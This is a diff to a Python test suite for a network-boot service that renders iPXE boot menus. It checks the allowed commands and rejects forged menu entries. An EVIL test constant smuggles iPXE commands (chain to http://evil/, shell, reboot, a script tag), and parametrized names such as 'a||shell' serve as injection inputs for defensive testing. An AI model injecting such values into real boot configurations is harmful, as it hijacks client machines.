@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from bootlink_events import Chap, ClusterKey, RefusalCause
+from bootlink_events import BootPlan, Chap, ClusterKey, Menu, MenuEntry, RefusalCause
 from bootlink_tftp.ipxe import COLUMNS, Text, Token, UnsafeValue, fill, say
 from bootlink_tftp.screens import RETRY_SECONDS, SCREENS, SOON_SECONDS
 from bootlink_tftp.scripts import Asker, Script, autoexec, portal_hosts, render
@@ -19,6 +19,8 @@ ASKER = Asker(MAC, BOOT_ID, BASE)
 NOWHERE: frozenset[str] = frozenset()
 # Commands of Debian's iPXE of 2019 (read from the strings of snponly.efi) that our scripts use.
 COMMANDS = {"echo", "set", "clear", "sanhook", "sanboot", "sanunhook", "prompt", "chain", "goto", "isset", "dhcp"}
+MENU_COMMANDS = {"menu", "item", "choose"}
+MENU_SETTINGS = {"${menu-entry}", "${menu-target}", "${menu-image}"}
 CONSOLE_ROWS = 25
 EVIL = "${net0/mac}\n sanboot iscsi:evil || chain http://evil/ && shell ; reboot # \\\r\n:label `<script>"
 
@@ -50,13 +52,19 @@ def check(text: str) -> list[list[str]]:
     text.encode("ascii")
     assert "\r" not in text
     found = commands(text)
-    assert {command[0] for command in found} <= COMMANDS
-    assert set(re.findall(r"\$\{[^}]*\}?", text)) <= {"${netX/mac:hexhyp}", "${netX/ip}"}
+    settings = {"${netX/mac:hexhyp}", "${netX/ip}"}
+    asks = any(command[0] == "menu" for command in found)
+    assert {command[0] for command in found} <= COMMANDS | (MENU_COMMANDS if asks else set())
+    assert set(re.findall(r"\$\{[^}]*\}?", text)) <= settings | (MENU_SETTINGS if asks else set())
+    assert "@menu" not in text
     labels = re.findall(r"^:(\S+)", text, re.MULTILINE)
     assert len(labels) == len(set(labels))
     for command in found:
         if command[0] == "goto":
-            assert command[1] in labels
+            assert command[1].replace("${menu-entry}", "link") in labels
+        if command[0] == "item":
+            assert command[1] in [label.removeprefix("entry_") for label in labels]
+            assert not [*command, ""][2].startswith("-")
         if command[0] == "echo":
             assert not [*command, ""][1].startswith("-")
         if command[0] == "chain":
@@ -109,6 +117,66 @@ def test_a_failed_disk_shows_which_step_failed_and_asks_again_under_that_name() 
     ]
     names = [command[0] for command in found]
     assert names[names.index("sanboot") + 1] == "sanunhook", "else the next attempt finds the drive number taken"
+
+
+def offering(*titles: str, seconds: int = 10, client: str = "pc-001", default: str = "link") -> BootPlan:
+    """A plan with a menu: the link itself as `link`, and the images image-1, image-2 and so on as e1, e2."""
+    entries = [MenuEntry(name="link", title="Windows 11", disks=(disk(),))]
+    entries += [
+        MenuEntry(name=f"e{n}", title=title, disks=(disk(image=f"image-{n}"),)) for n, title in enumerate(titles, 1)
+    ]
+    menu = Menu(entries=tuple(entries), default=default, seconds=seconds)
+    return plan(client=client).model_copy(update={"menu": menu})
+
+
+def test_a_menu_offers_each_entry_and_what_is_chosen_is_the_target_that_is_attached() -> None:
+    script = render(ASKER, offering("Ubuntu 24.04", "Rescue", seconds=20, default="e1"), on_link=NOWHERE)
+    assert (script.kind, script.menu) == ("sanboot", True)
+    found = check(script.text)
+    assert [command[1:] for command in found if command[0] == "item"] == [
+        ["link", "Windows", "11"],
+        ["e1", "Ubuntu", "24.04"],
+        ["e2", "Rescue"],
+    ]
+    assert ["choose", "--timeout", "20000", "--default", "e1", "menu-entry"] in found
+    target = "iqn.2026-11.io.bootlink:52-54-00-12-34-56"
+    assert [command[2] for command in found if command[:2] == ["set", "menu-target"]] == [
+        f"{target}:link",
+        f"{target}:e1",
+        f"{target}:e2",
+    ]
+    assert [command[1] for command in found if command[0] == "sanhook"] == ["iscsi:10.77.0.1::3260:0:${menu-target}"]
+    assert [command[3].rpartition("/")[2] for command in found if command[0] == "chain"] == [
+        "52-54-00-12-34-56.attach.${menu-entry}.ipxe",
+        "52-54-00-12-34-56.start.${menu-entry}.ipxe",
+    ]
+    assert "The disk ${menu-image} was attached" in script.text
+
+
+def test_a_menu_that_waits_for_ever_has_no_timeout() -> None:
+    found = check(render(ASKER, offering("Ubuntu", seconds=0), on_link=NOWHERE).text)
+    assert ["choose", "--default", "link", "menu-entry"] in found
+
+
+def test_escape_shows_the_menu_again_and_an_ipxe_without_menus_takes_the_default() -> None:
+    text = render(ASKER, offering("Ubuntu", default="e1"), on_link=NOWHERE).text
+    assert "\nmenu Bootlink: pc-001 || goto entry_e1\n" in text
+    assert " menu-entry || goto menu\ngoto entry_${menu-entry}\n:entry_link\n" in text
+
+
+@given(title=st.text(max_size=60), client=st.text(max_size=60))
+def test_no_text_in_a_menu_becomes_a_command(title: str, client: str) -> None:
+    check(render(ASKER, offering(title, EVIL, client=client), on_link=NOWHERE).text)
+
+
+@pytest.mark.parametrize("name", ["a b", "${x}", "", "-x", "a||shell"])
+def test_a_forged_entry_shows_a_screen_instead_of_a_menu(name: str) -> None:
+    offered = offering("Ubuntu")
+    assert offered.menu is not None
+    entries = (*offered.menu.entries, MenuEntry(name=name, title="", disks=(disk(),)))
+    forged = offered.model_copy(update={"menu": offered.menu.model_copy(update={"entries": entries})})
+    script = render(ASKER, forged, on_link=NOWHERE)
+    assert (script.kind, script.cause) == ("screen", "bad_plan")
 
 
 @pytest.mark.parametrize("cause", ["no_link", "image_missing", "no_blockstore", "disabled"])
